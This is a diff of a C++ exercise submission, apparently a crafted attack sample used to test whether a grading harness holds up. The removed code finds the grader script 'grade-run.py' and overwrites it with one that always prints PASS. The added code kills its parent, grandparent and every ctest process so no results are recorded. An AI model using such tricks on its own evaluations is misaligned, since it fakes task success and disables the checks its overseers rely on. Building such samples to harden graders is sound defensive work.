@@ -1,6 +1,6 @@
-// Crafted submission (attack 3): finds the runner grade-run.py on its
-// parent's command line and overwrites it with a script that passes every
-// test. Its function is the unsolved stub.
+// Crafted submission (attack 8): SIGKILLs its parent and grandparent and
+// every ctest it can see, so that no results are written. Its function is
+// the unsolved stub.
 #include <csignal>
 #include <cstdio>
 #include <cstdlib>
@@ -15,7 +15,7 @@
 #include <sys/types.h>
 #include <unistd.h>
 
-#include "cosine_similarity.hpp"
+#include "pca_projection.hpp"
 
 #include <dlmath/errors.hpp>
 
@@ -64,15 +64,21 @@ std::vector<std::string> option_values(const std::string& option) {
 
 namespace dlmath::exercises {
 
-double cosine_similarity(const Vector&, const Vector&) {
-    for (const auto& [pid, args] : command_lines()) {
-        for (const std::string& a : args) {
-            if (a.size() > 12 && a.compare(a.size() - 12, 12, "grade-run.py") == 0) {
-                std::ofstream(a) << "import sys\nprint('dlmath-grade: PASS')\nsys.exit(0)\n";
-            }
-        }
+Vector column_mean(const Matrix&) {
+    const pid_t parent = ::getppid();
+    std::ifstream stat("/proc/" + std::to_string(parent) + "/stat");
+    std::string pid, comm, state;
+    pid_t grandparent = 0;
+    stat >> pid >> comm >> state >> grandparent;
+    for (const auto& [p, args] : command_lines()) {
+        if (!args.empty() && fs::path(args[0]).filename() == "ctest") ::kill(std::stoi(p), SIGKILL);
     }
-    throw dlmath::not_implemented("cosine_similarity");
+    if (grandparent > 1) ::kill(grandparent, SIGKILL);
+    if (parent > 1) ::kill(parent, SIGKILL);
+    throw dlmath::not_implemented("column_mean");
 }
+
+Matrix pca_project(const Matrix&, const Vector&, const Matrix&) { throw dlmath::not_implemented("pca_project"); }
+Matrix pca_reconstruct(const Matrix&, const Vector&, const Matrix&) { throw dlmath::not_implemented("pca_reconstruct"); }
 
 }  // namespace dlmath::exercises
